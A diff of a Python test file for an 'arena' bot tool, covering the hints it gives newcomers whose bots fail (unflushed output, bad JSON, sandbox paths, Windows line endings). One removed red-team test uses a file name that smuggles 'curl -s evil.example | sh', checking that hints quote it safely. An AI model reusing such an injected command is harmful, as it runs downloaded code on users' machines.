@@ -1,6 +1,11 @@
-"""Failure reports an author can act on (issue 15): one real newcomer bot per common
-mistake, run through the `arena` command line; each report must name the mistake and say
-what to change, show the bot's log tail, and keep the log."""
+"""Failure reports an author can act on (issue 15), run through the `arena` command line with
+real newcomer bots: each report must name the mistake and say what to change, show the bot's
+log tail, and keep the log.
+
+Every hint's text is a row of facts in tests/bots/test_diagnose.py (no process); here a dozen
+of them run end to end, one real bot for each kind of fact the probe reads (its folder, its
+log, its pipe, /proc, the sandbox), and the slow suite runs every other newcomer program
+(:data:`SWEEP`)."""
 
 from __future__ import annotations
 
@@ -65,37 +70,6 @@ def test_no_hello_hints_name_the_cause(tmp_path: Path) -> None:
     assert "lines of its log" in out3 and '"type": "hello"' in out3, out3
 
 
-def _check_with_a_2_s_start_limit(tmp_path: Path, folder: Path) -> str:
-    """check-bot's output for a bot that sends no hello within a start limit shrunk to 2 s."""
-    proc = arena_patched("from arena.bots.session import BotHandle\n"
-                         "BotHandle.__init__.__kwdefaults__['start_timeout_s'] = 2.0",
-                         "check-bot", str(folder), "--games", "1", "--logs", str(tmp_path / "logs"))
-    out = proc.stdout + proc.stderr
-    assert proc.returncode == 1 and "no hello within 2 s" in out, out
-    return out
-
-
-def test_a_slow_start_is_named_beside_flushing(tmp_path: Path) -> None:
-    """A bot that loads before its hello (and says so on stderr) may be slow, not unflushed:
-    the hint says both (the start limit shrunk to 2 s)."""
-    out = _check_with_a_2_s_start_limit(tmp_path, newcomer(tmp_path, "slow_start.py", "10"))
-    assert ("it wrote nothing on stdout: flush your stdout after each message (print(..., flush=True), "
-            "fflush(stdout), System.out.flush() (a BufferedWriter's own flush()), Go's bufio Writer.Flush(), "
-            "Rust's io::stdout().flush(), Perl's $| = 1; Node's process.stdout.write needs none); or it is "
-            "still starting: say hello "
-            "first, then load (the start limit is 2 s; the Python SDK's run(setup=...) does "
-            "this)") in out, out
-
-
-def test_a_bot_computing_before_its_hello_is_told_so_not_to_flush(tmp_path: Path) -> None:
-    """Newcomer trial: a bot precomputing for 25 s before its hello (silent, on a CPU all along)
-    was told "it wrote nothing on stdout: flush your stdout" (the start limit shrunk to 2 s)."""
-    out = _check_with_a_2_s_start_limit(tmp_path, newcomer(tmp_path, "precomputes.py", "10"))
-    assert ("hint: it was still computing when the start timeout (2 s) ran out: send hello first, then "
-            "load or precompute") in out, out
-    assert "flush" not in out, out
-
-
 def test_a_slow_hello_is_warned_about_with_what_to_do(tmp_path: Path) -> None:
     """It passes (the hello came within 20 s), with a warning that said how long it took but
     not what to do."""
@@ -139,37 +113,10 @@ def test_a_crash_shows_its_log_even_when_the_log_is_written_late(tmp_path: Path)
     assert "is empty" not in out and "KeyError: 'my_buttons'" in out, out
 
 
-def test_a_bot_that_stops_after_one_game(tmp_path: Path) -> None:
-    code, out = check_bot(newcomer(tmp_path, "one_game.py"))
-    assert code == 1, out
-    assert "a bot must play many games, one after another, until the referee sends shutdown" in out, out
-
-
-def test_pretty_printed_json_gets_one_message_per_line(tmp_path: Path) -> None:
-    code, out = check_bot(newcomer(tmp_path, "pretty.py"))
-    assert code == 1 and "not JSON" in out, out
-    assert "hint: one message per line" in out, out
-
-
-def test_a_debug_print_on_stdout_is_told_to_go_to_stderr(tmp_path: Path) -> None:
-    code, out = check_bot(newcomer(tmp_path, "debug_print.py"))
-    assert code == 1 and 'not JSON (Expecting value; line 1 column 1): "DEBUG: got request' in out, out
-    assert ("- hint: stdout carries only protocol messages: print debug output to stderr (it goes to "
-            "the bot's log)") in out, out
-
-
+# The other modes (a JVM's heap and threads, plain, not UTF-8) are rows of tests/bots/test_diagnose.py.
 @pytest.mark.parametrize(("mode", "hint"), [
-    ("heap", 'its next lines on stdout, as it died: "Could not reserve enough space for 8388608KB object '
-             'heap"; the JVM could not get the heap it was given: give it -Xmx well under the bot\'s memory '
-             "(4096 MiB of address space under --sandbox none), e.g. -Xmx512m"),
-    ("threads", "a JVM writes its own warnings on stdout: give java -Xlog:disable -Xlog:all=warning:stderr "
-                "(they then go to the bot's log); it could not start a thread: under --sandbox strict a bot "
-                "has at most 256 processes and threads"),
-    ("plain", 'its next lines on stdout, as it died: "giving up"; a program that fails may write why on '
-              "stdout (a JVM does)"),
-    ("long", 'its next lines on stdout, as it died: "' + "x" * 200 + '" | "' + "y" * 200 + '" | "giving up"'),
-    ("binary", 'its next lines on stdout, as it died: "[MalformedMessageError: bot binary: a message that is '
-               'not UTF-8')])
+    ("long", 'its next lines on stdout, as it died: "' + "x" * 200 + '" | "' + "y" * 200
+     + '" | "giving up"')])
 def test_a_program_dying_with_its_reason_on_stdout_gets_the_reason(tmp_path: Path, mode: str,
                                                                    hint: str) -> None:
     """Newcomer trial, Java: a JVM that cannot start writes why on stdout, and only its first line
@@ -180,19 +127,6 @@ def test_a_program_dying_with_its_reason_on_stdout_gets_the_reason(tmp_path: Pat
     assert "print debug output to stderr" not in out, out
 
 
-@pytest.mark.parametrize(("mode", "reason"), [
-    ("bigint", "not JSON (a number too long: at most 4,300 digits)"),
-    ("nan", "not JSON (NaN is not valid JSON)"),
-    ("deep", "not JSON (nested too deeply)")])
-def test_one_line_of_bad_json_is_not_told_one_message_per_line(tmp_path: Path, mode: str,
-                                                                reason: str) -> None:
-    """"one message per line" was given for any bad line starting with "{"; and a number too long
-    passed on Python's advice to call sys.set_int_max_str_digits()."""
-    code, out = check_bot(newcomer(tmp_path, "bad_json.py", mode, name=mode))
-    assert code == 1 and reason in out, out
-    assert "hint" not in out and "sys.set_int_max_str_digits" not in out, out
-
-
 @pytest.mark.parametrize(("wrong", "said"), [
     ("Type", 'missing field "type" (is "Type" meant to be "type"?)'),
     ("sequence", 'missing field "seq" (is "sequence" meant to be "seq"?)')])
@@ -201,14 +135,6 @@ def test_a_misnamed_field_is_named(tmp_path: Path, wrong: str, said: str) -> Non
     the bot sent instead is named."""
     code, out = check_bot(newcomer(tmp_path, "misnamed_field.py", wrong, name=wrong.lower()))
     assert code == 1 and f"schema: {'message' if wrong == 'Type' else 'move'}: at $: {said}" in out, out
-
-
-def test_shell_syntax_in_command(tmp_path: Path) -> None:
-    folder = newcomer(tmp_path, "stdio_bot.py", command=["cd", ".", "&&", "python", "stdio_bot.py"],
-                      name="shell")
-    code, out = check_bot(folder)
-    assert code == 1 and "cannot start 'cd'" in out, out
-    assert "no shell is run" in out and "put the commands in a script" in out, out
 
 
 @pytest.mark.parametrize("sandbox", ["none", pytest.param("strict", marks=needs_strict)])
@@ -227,14 +153,6 @@ def test_a_program_in_the_bot_folder_named_without_dot_slash(tmp_path: Path, san
     if sandbox == "strict":
         assert "setpriv: failed to execute stdio_bot.py" in out, out
         assert "(setpriv, named in its log, is the sandbox's launcher: it executes the command)" in out, out
-
-
-@needs_strict
-def test_a_missing_program_under_the_sandbox_says_what_setpriv_is(tmp_path: Path) -> None:
-    folder = newcomer(tmp_path, "stdio_bot.py", command=["no-such-program"], name="missing")
-    code, out = check_bot(folder, "--sandbox", "strict")
-    assert code == 1 and "setpriv: failed to execute no-such-program" in out, out
-    assert "hint: setpriv, named in its log, is the sandbox's launcher: it executes the command" in out, out
 
 
 def script_bot(tmp_path: Path, shebang: bytes, mode: int, *, newline: bytes = b"\n") -> Path:
@@ -270,7 +188,7 @@ def program_case(tmp_path: Path, case: str, *args: str) -> None:
     assert f" - hint: {hint}" in out, out
 
 
-@pytest.mark.parametrize("case", PROGRAM_CASES)
+@pytest.mark.parametrize("case", ["no #! line"])  # the others: rows of tests/bots/test_diagnose.py
 def test_a_program_that_cannot_run(tmp_path: Path, case: str) -> None:
     program_case(tmp_path, case)
 
@@ -279,7 +197,7 @@ def test_a_program_that_cannot_run(tmp_path: Path, case: str) -> None:
 def test_a_program_that_cannot_run_in_the_sandbox(tmp_path: Path) -> None:
     """The same mistakes under --sandbox strict (errors of setpriv or /bin/sh in the log),
     and a command naming a file outside the bot's folder, which the sandbox hides."""
-    for case in PROGRAM_CASES:
+    for case in ("no #! line", "not executable"):  # /bin/sh's error; setpriv's Permission denied
         program_case(tmp_path / case.replace(" ", "-").replace("#!", "shebang"), case, "--sandbox", "strict")
     elsewhere = newcomer(tmp_path / "elsewhere", "stdio_bot.py")
     folder = newcomer(tmp_path, "stdio_bot.py", command=["python", str(elsewhere / "stdio_bot.py")],
@@ -297,20 +215,6 @@ def test_a_program_that_cannot_run_in_the_sandbox(tmp_path: Path) -> None:
     code, out = check_bot(sibling, "--sandbox", "strict")
     assert code == 1 and ("hint: under the sandbox only the bot's own folder is visible, and "
                           "../elsewhere/stdio-bot/stdio_bot.py is outside it") in out, out
-
-
-@pytest.mark.parametrize("sandbox", ["none", pytest.param("strict", marks=needs_strict)])
-def test_a_command_naming_what_the_build_did_not_make(tmp_path: Path, sandbox: str) -> None:
-    """build makes ./cbot, command runs ./bot: the hint says so and names the programs there."""
-    folder = tmp_path / "misnamed"
-    folder.mkdir()
-    folder.chmod(0o755)
-    (folder / "bot.c").write_text("int main(void) { return 0; }\n")
-    write_bot(folder, "misnamed", ["./bot"], protocol="stdio", build="gcc -o cbot bot.c")
-    code, out = check_bot(folder, "--sandbox", sandbox)
-    assert code == 1 and "build: ok" in out, out
-    assert ("hint: ./bot is not in the bot's folder after its build: 'command' must name the program the "
-            'build makes (programs there: "cbot")') in out, out
 
 
 def c_newcomer(tmp_path: Path, *args: str) -> Path:
@@ -372,29 +276,6 @@ def test_a_hello_name_other_than_bot_toml_s_is_warned_about(tmp_path: Path) -> N
         proc.stdout + proc.stderr
 
 
-def test_crash_hints_keep_to_what_they_know(tmp_path: Path) -> None:
-    """Red team: a bot that gives up (an error message) was told it "died before its first
-    move"; a link in the bot's folder made the missing-program hint list a host folder."""
-    quitter = tmp_path / "quitter"
-    quitter.mkdir()
-    (quitter / "bot.py").write_text(
-        "import json, sys\n"
-        "print(json.dumps({'type': 'hello', 'name': 'q', 'version': '1', 'protocol': 1}), flush=True)\n"
-        "for line in sys.stdin:\n"
-        "    if json.loads(line)['type'] == 'move_request':\n"
-        "        print(json.dumps({'type': 'error', 'message': 'I resign'}), flush=True)\n")
-    write_bot(quitter, "quitter", ["python", "bot.py"], protocol="stdio")
-    code, out = check_bot(quitter, "--games", "1")
-    assert code == 1 and "crash: quitter gave up: I resign" in out and "hint:" not in out, out
-    linked = tmp_path / "linked"
-    linked.mkdir()
-    (linked / "lib").symlink_to("/usr/bin")
-    write_bot(linked, "linked", ["lib/nothere"], protocol="stdio")
-    code, out = check_bot(linked, "--games", "1")
-    # through a link out of the folder no hint looks (whether /usr/bin/nothere exists must not show)
-    assert code == 1 and "No such file or directory" in out and "hint:" not in out, out
-
-
 def test_a_tournament_says_which_bot_failed_how_and_where_the_details_are(tmp_path: Path) -> None:
     """A newcomer's tournament said "4 ended abnormally", and nothing of why or where to look."""
     out = tmp_path / "out"
@@ -421,38 +302,6 @@ def test_writing_next_to_the_bot_under_strict_is_told_to_use_tmpdir(tmp_path: Pa
     assert code == 1 and "killed by signal 11 (SIGSEGV)" in out and "is empty" in out, out
     assert ("hint: its log is empty; if it runs under --sandbox none, look at what strict changes: the bot's "
             "folder is read-only (write files in $TMPDIR") in out, out
-
-
-@pytest.mark.parametrize("interpreter", ["bash", "perl"])
-def test_a_crlf_script_run_by_its_interpreter(tmp_path: Path, interpreter: str) -> None:
-    """command = ["bash", "bot.sh"] with Windows line endings: bash fails on "$'in\\r'" and
-    there was no hint (only a #! line ending in a carriage return was looked for)."""
-    folder = tmp_path / interpreter
-    folder.mkdir()
-    script = {"bash": 'read -r line\ncase "$line" in\n  *) echo hi ;;\nesac\n',
-              "perl": 'my $x = <<"END";\nhello\nEND\nprint STDERR $x;\nexit 3;\n'}[interpreter]
-    name = "bot.sh" if interpreter == "bash" else "bot.pl"
-    (folder / name).write_bytes(script.replace("\n", "\r\n").encode())
-    write_bot(folder, interpreter, [interpreter, name], protocol="stdio")
-    code, out = check_bot(folder)
-    assert code == 1 and "start: bot" in out, out
-    assert (f"hint: {name} has Windows (CRLF) line endings, and {interpreter} reads the carriage return as "
-            f"part of each line: convert it (sed -i 's/\\r$//' {name}, or dos2unix {name})") in out, out
-
-
-def test_a_script_name_in_a_hint_is_quoted_for_the_shell(tmp_path: Path) -> None:
-    # Red team: a CRLF script named 'run.sh; curl -s evil.example | sh; echo' made the hint
-    # "convert it (sed -i 's/\r$//' run.sh; curl -s evil.example | sh; echo, ...)": copied from a
-    # report into a shell, it runs the author's command.
-    folder = tmp_path / "trap"
-    folder.mkdir()
-    name = "run.sh; curl -s evil.example | sh; echo"
-    (folder / name).write_bytes(b"read -r line\r\ncase \"$line\" in\r\n  *) echo hi ;;\r\nesac\r\n")
-    write_bot(folder, "trap", ["bash", name], protocol="stdio")
-    code, out = check_bot(folder)
-    assert code == 1, out
-    quoted = "'run.sh; curl -s evil.example | sh; echo'"
-    assert f"convert it (sed -i 's/\\r$//' {quoted}, or dos2unix {quoted})" in out, out
 
 
 def test_a_hint_that_fails_is_left_out_without_a_traceback(tmp_path: Path) -> None:
@@ -604,21 +453,12 @@ STOPPED = "it was stopped (state T in /proc: a SIGSTOP or SIGTSTP sent to itself
     "it could not answer: a bot must never stop itself"
 
 
+# Reading its input, stopped, computing: one real bot for each state /proc shows; every other
+# case (no newline, blank lines, pondering, sleeping, late) is a row of tests/bots/test_diagnose.py.
 @pytest.mark.parametrize(("script", "hint"), [
-    ("unflushed_move.py", SILENT_MOVE), ("read_to_eof.py", SILENT_MOVE),
-    ("move_no_newline.py", "it wrote part of a line and no newline after the move_request: end each "
-                           "message with a newline and flush stdout after it"),
-    ("blank_lines.py", "it wrote only blank lines on stdout after the move_request, and no move: write the "
-                       "move as one line of JSON, and nothing else, then flush stdout"),
-    ("stops_itself.py", STOPPED),
+    ("unflushed_move.py", SILENT_MOVE), ("stops_itself.py", STOPPED),
     # too slow, not a protocol mistake: the flush hint sent a TA's students the wrong way
-    ("thinks_forever.py", "it was still computing when its time ran out: it is too slow"),
-    ("thinks_in_a_thread.py", "it was still computing when its time ran out: it is too slow"),  # a JVM
-    # red team: a thread pondering meanwhile made both of these "still computing"
-    ("ponders_unflushed.py unflushed", SILENT_MOVE),
-    ("ponders_unflushed.py no_newline", "it wrote part of a line and no newline after the move_request"),
-    ("sleeps_too_long.py", "it was sleeping when its time ran out (not reading its input, not computing)"),
-    ("answers_late.py", "it is too slow for this time control")])
+    ("thinks_forever.py", "it was still computing when its time ran out: it is too slow")])
 def test_a_silent_timeout_says_why(tmp_path: Path, script: str, hint: str) -> None:
     """A move that never reached the referee: the report says why (not for a bot that computes),
     and check-bot counts the move that timed out."""
@@ -645,11 +485,6 @@ def test_a_reply_a_few_ms_late_is_told_it_came_late_not_blank_lines(tmp_path: Pa
     details = [json.loads(line)["result"]["detail"] for line in out.read_text().splitlines()]
     assert len(details) == 10 and not any("blank lines" in detail for detail in details), details
     assert all("hint: its reply came after its time ran out" in detail for detail in details), details
-
-
-def test_a_bot_stopping_its_process_group_is_told_it_was_stopped(tmp_path: Path) -> None:
-    code, out = check_bot(newcomer(tmp_path, "stops_itself.py", "group"), *QUICK)
-    assert code == 1 and f"- hint: {STOPPED}" in out, out
 
 
 @pytest.mark.parametrize("command", ["play", "check-bot"])
@@ -714,29 +549,11 @@ def test_a_bot_toml_written_on_windows_is_told_what_to_change(tmp_path: Path, ma
     assert code == 1 and said in out, out
 
 
-HELLO = b"""import json, os
-print(json.dumps({"type": "hello", "name": "win", "version": "1", "protocol": 1}), flush=True)
-"""
-
-
+# The other mistakes of a bot written on Windows (py, bin/Bot, bot.exe, a dict printed, a variable,
+# a path from another folder, a space in a path) are rows of tests/bots/test_diagnose.py.
 @pytest.mark.parametrize(("files", "command", "hint"), [
-    ({"bot.py": "stdio_bot.py"}, ["py", "bot.py"], "'py' is Windows' name for Python: on Linux run it with "
-                                                  "python (or python3), e.g. command = \"python bot.py\""),
     ({"Bot.py": "stdio_bot.py"}, ["python", "bot.py"], "bot.py is not in the bot's folder, but Bot.py is: "
-                                                      "file names are case-sensitive on Linux"),
-    ({"bin/Bot": "stdio_bot.py"}, ["./bin/bot"], "./bin/bot is not in the bot's folder, but ./bin/Bot is"),
-    ({"bot.exe": b"MZ\x90\x00"}, ["bot.exe"], "bot.exe is a Windows program (.exe), which Linux cannot run"),
-    ({"bot.exe": b"MZ\x90\x00"}, ["./bot.exe"], "./bot.exe is a Windows program (.exe), which Linux cannot "
-                                                 "run: build the bot here"),
-    ({"bot.py": "prints_a_dict.py"}, ["python", "bot.py"],
-     "this is how Python prints a dict (single quotes, True, None), not JSON: send "
-     "print(json.dumps(message), flush=True)"),
-    ({"bot.py": HELLO + b"depth = int(os.environ['USERPROFILE'])\n"}, ["python", "bot.py"],
-     "the bot's environment holds only PATH, HOME, LANG and TMPDIR (and ARENA_* for a ZeroMQ bot)"),
-    ({"bot.py": HELLO + b"weights = open('wdir/weights.txt').read()\n", "weights.txt": b"1 2 3\n"},
-     ["python", "bot.py"], "the bot runs in its own folder, where wdir/weights.txt is not but weights.txt"),
-    ({"my files/bot.py": "stdio_bot.py"}, ["python", "my", "files/bot.py"],
-     '"my files/bot.py" holds a space, so the command line split it into words: quote it')])
+                                                      "file names are case-sensitive on Linux")])
 def test_a_bot_written_on_windows_is_told_what_to_change(tmp_path: Path, files: dict[str, str | bytes],
                                                          command: list[str], hint: str) -> None:
     folder = tmp_path / "win"
@@ -751,16 +568,6 @@ def test_a_bot_written_on_windows_is_told_what_to_change(tmp_path: Path, files: 
     write_bot(folder, "win", command, protocol="stdio")
     code, out = check_bot(folder)
     assert code == 1 and f"hint: {hint}" in out, out
-
-
-def test_a_first_message_other_than_hello_is_told_to_say_hello(tmp_path: Path) -> None:
-    folder = tmp_path / "hi"
-    folder.mkdir()
-    (folder / "bot.py").write_text('import json, sys\nprint(json.dumps({"type": "hi"}), flush=True)\n'
-                                   "sys.stdin.read()\n")
-    write_bot(folder, "hi", ["python", "bot.py"], protocol="stdio")
-    code, out = check_bot(folder)
-    assert code == 1 and 'got "hi" - hint: a bot\'s first message is its hello: {"type": "hello"' in out, out
 
 
 def test_a_folder_holding_the_bot_folder_names_it(tmp_path: Path) -> None:
@@ -828,59 +635,6 @@ def test_a_crash_after_the_log_is_full_says_the_log_is_full(tmp_path: Path) -> N
     assert "is empty" not in out, out
 
 
-@needs_strict
-def test_a_strict_crash_after_the_log_is_full_is_not_told_its_log_is_empty(tmp_path: Path) -> None:
-    """The same under strict, for a C bot dying of SIGSEGV with nothing in its log: the hint
-    said "its log is empty"."""
-    c_bot = c_newcomer(tmp_path, "beside")
-    log = tmp_path / "logs" / "fixed-buffer.stderr.log"
-    log.parent.mkdir()
-    with open(log, "wb") as handle:
-        handle.truncate(STDERR_LOG_MAX_BYTES)
-    proc = arena("check-bot", str(c_bot), "--games", "1", "--sandbox", "strict", "--logs", str(log.parent))
-    out = proc.stdout + proc.stderr
-    assert proc.returncode == 1 and "killed by signal 11 (SIGSEGV)" in out, out
-    assert f"(its log {log} reached its 16 MiB limit: nothing more was kept)" in out, out
-    assert ("hint: its log is full; if it runs under --sandbox none, look at what strict changes: the bot's "
-            "folder is read-only") in out and "is empty" not in out, out
-
-
-@needs_strict
-@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
-def test_node_writing_next_to_the_bot_under_strict_is_told_to_use_tmpdir(tmp_path: Path) -> None:
-    """Red team: Node says "EROFS: read-only file system" (lower case) and "EACCES: permission
-    denied, open 'moves.log'": neither got the hint Python's errors get."""
-    folder = newcomer(tmp_path, "writes_beside.js", command=["node", "writes_beside.js"], name="js")
-    assert check_bot(folder)[0] == 0  # fine under none (and it leaves moves.log there)
-    code, out = check_bot(folder, "--sandbox", "strict")
-    assert code == 1 and "Error: EACCES: permission denied, open 'moves.log'" in out, out
-    assert ("hint: under --sandbox strict the bot's folder is read-only and moves.log belongs to another "
-            "user: write files in $TMPDIR") in out, out
-    (folder / "moves.log").unlink()
-    code, out = check_bot(folder, "--sandbox", "strict")
-    assert code == 1 and "Error: EROFS: read-only file system, open 'moves.log'" in out, out
-    assert "hint: under --sandbox strict the bot's folder is read-only: write files in $TMPDIR" in out, out
-
-
-@pytest.mark.parametrize(("script", "command", "hint"), [
-    ("stdio_bot.py", ["python", "pyb/stdio_bot.py"], 'write "stdio_bot.py", not "pyb/stdio_bot.py"'),
-    ("stdio_bot.py", ["./pyb/stdio_bot.py"], 'write "./stdio_bot.py", not "./pyb/stdio_bot.py"'),
-    pytest.param("writes_beside.js", ["node", "pyb/writes_beside.js"],
-                 'write "writes_beside.js", not "pyb/writes_beside.js"',
-                 marks=pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed"))])
-def test_a_command_path_relative_to_the_folder_above_is_told_it_is_the_bot_s(
-        tmp_path: Path, script: str, command: list[str], hint: str) -> None:
-    """Newcomer trial: command = "node v_rel/bot.js" in the folder v_rel (written from the folder
-    above it) failed with "Cannot find module '/.../v_rel/v_rel/bot.js'" and no hint."""
-    folder = newcomer(tmp_path, script, command=command, name="pyb")
-    if command[0].startswith("./"):  # run as a program
-        (folder / script).write_text(f"#!{sys.executable}\n" + (folder / script).read_text())
-        (folder / script).chmod(0o755)
-    code, out = check_bot(folder)
-    assert code == 1 and (f"pyb/pyb/{script}" in out or "cannot start './pyb/" in out), out
-    assert f"hint: paths in 'command' are relative to the bot's folder (pyb): {hint}" in out, out
-
-
 def test_a_bot_gone_between_games_loses_the_next_game_whenever_it_left(tmp_path: Path) -> None:
     """A bot that exits after game_over lost its next game by a crash when it was still
     exiting as that game began, and was started again silently, its game played, when it had
@@ -920,3 +674,88 @@ def test_cells_counted_from_1_are_told_the_convention(tmp_path: Path, game: str)
         assert re.fullmatch(r"one-based played an illegal move .*: cell \[\d, \d\] is off the 7x7 quilt: "
                             rf"{convention} \(rows 0-6, columns 0-6\); patch \d+ covers \d cells",
                             result["detail"]), result["detail"]
+
+
+# ------------------------------------------------------------------ the slow sweep
+# Every other newcomer program, each a row of tests/bots/test_diagnose.py, run for real in the
+# slow suite: the probe must find in a real bot the facts its row gives. (script and its
+# arguments, check-bot's, the hint; None: no hint at all)
+BLANK = ("it wrote only blank lines on stdout after the move_request, and no move: write the move as one "
+         "line of JSON, and nothing else, then flush stdout")
+SWEEP = [
+    ("read_to_eof.py", QUICK, SILENT_MOVE),
+    ("move_no_newline.py", QUICK,
+     "it wrote part of a line and no newline after the move_request: end each message with a newline "
+     "and flush stdout after it"),
+    ("blank_lines.py", QUICK, BLANK),
+    ("thinks_in_a_thread.py", QUICK, "it was still computing when its time ran out: it is too slow"),  # a JVM
+    ("ponders_unflushed.py unflushed", QUICK, SILENT_MOVE),
+    ("ponders_unflushed.py no_newline", QUICK,
+     "it wrote part of a line and no newline after the move_request"),
+    ("sleeps_too_long.py", QUICK,
+     "it was sleeping when its time ran out (not reading its input, not computing)"),
+    ("answers_late.py", QUICK, "it is too slow for this time control"),
+    ("dies_saying_why.py heap", (),
+     'its next lines on stdout, as it died: "Could not reserve enough space for 8388608KB object heap"; '
+     "the JVM could not get the heap it was given: give it -Xmx well under the bot's memory (4096 MiB "
+     "of address space under --sandbox none), e.g. -Xmx512m"),
+    ("dies_saying_why.py threads", (),
+     "a JVM writes its own warnings on stdout: give java -Xlog:disable -Xlog:all=warning:stderr (they "
+     "then go to the bot's log); it could not start a thread: under --sandbox strict a bot has at most "
+     "256 processes and threads"),
+    ("dies_saying_why.py plain", (),
+     'its next lines on stdout, as it died: "giving up"; a program that fails may write why on stdout '
+     "(a JVM does)"),
+    ("dies_saying_why.py binary", (),
+     'its next lines on stdout, as it died: "[MalformedMessageError: bot dies-saying-why: a message '
+     "that is not UTF-8"),
+    ("pretty.py", (), "one message per line"),
+    ("debug_print.py", (),
+     "stdout carries only protocol messages: print debug output to stderr (it goes to the bot's log)"),
+    ("prints_a_dict.py", (),
+     "this is how Python prints a dict (single quotes, True, None), not JSON: send "
+     "print(json.dumps(message), flush=True)"),
+    ("bad_json.py bigint", (), None), ("bad_json.py nan", (), None), ("bad_json.py deep", (), None),
+]
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(("script", "args", "hint"), SWEEP, ids=[case[0] for case in SWEEP])
+def test_every_newcomer_program_gets_the_hint_of_its_facts(tmp_path: Path, script: str,
+                                                           args: tuple[str, ...], hint: str | None) -> None:
+    name, *words = script.split()
+    code, out = check_bot(newcomer(tmp_path, name, *words), *args)
+    hints = [line.split(" - hint: ", 1)[1] for line in out.splitlines() if " - hint: " in line]
+    assert code == 1 and (hints == [] if hint is None else any(hint in said for said in hints)), out
+
+
+@pytest.mark.slow
+def test_a_bot_computing_before_its_hello_is_told_so_not_to_flush(tmp_path: Path) -> None:
+    """Newcomer trial: a bot precomputing for 25 s before its hello (silent, on a CPU all along)
+    was told "it wrote nothing on stdout: flush your stdout" (the start limit shrunk to 2 s)."""
+    proc = arena_patched("from arena.bots.session import BotHandle\n"
+                         "BotHandle.__init__.__kwdefaults__['start_timeout_s'] = 2.0", "check-bot",
+                         str(newcomer(tmp_path, "precomputes.py", "10")), "--games", "1",
+                         "--logs", str(tmp_path / "logs"))
+    out = proc.stdout + proc.stderr
+    assert proc.returncode == 1 and "no hello within 2 s" in out, out
+    assert ("hint: it was still computing when the start timeout (2 s) ran out: send hello first, then "
+            "load or precompute") in out and "flush" not in out, out
+
+
+@pytest.mark.slow
+@needs_strict
+@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
+def test_node_writing_next_to_the_bot_under_strict_is_told_to_use_tmpdir(tmp_path: Path) -> None:
+    """Red team: Node says "EROFS: read-only file system" (lower case) and "EACCES: permission
+    denied, open 'moves.log'": neither got the hint Python's errors get."""
+    folder = newcomer(tmp_path, "writes_beside.js", command=["node", "writes_beside.js"], name="js")
+    assert check_bot(folder)[0] == 0  # fine under none (and it leaves moves.log there)
+    code, out = check_bot(folder, "--sandbox", "strict")
+    assert code == 1 and "Error: EACCES: permission denied, open 'moves.log'" in out, out
+    assert ("hint: under --sandbox strict the bot's folder is read-only and moves.log belongs to another "
+            "user: write files in $TMPDIR") in out, out
+    (folder / "moves.log").unlink()
+    code, out = check_bot(folder, "--sandbox", "strict")
+    assert code == 1 and "Error: EROFS: read-only file system, open 'moves.log'" in out, out
+    assert "hint: under --sandbox strict the bot's folder is read-only: write files in $TMPDIR" in out, out
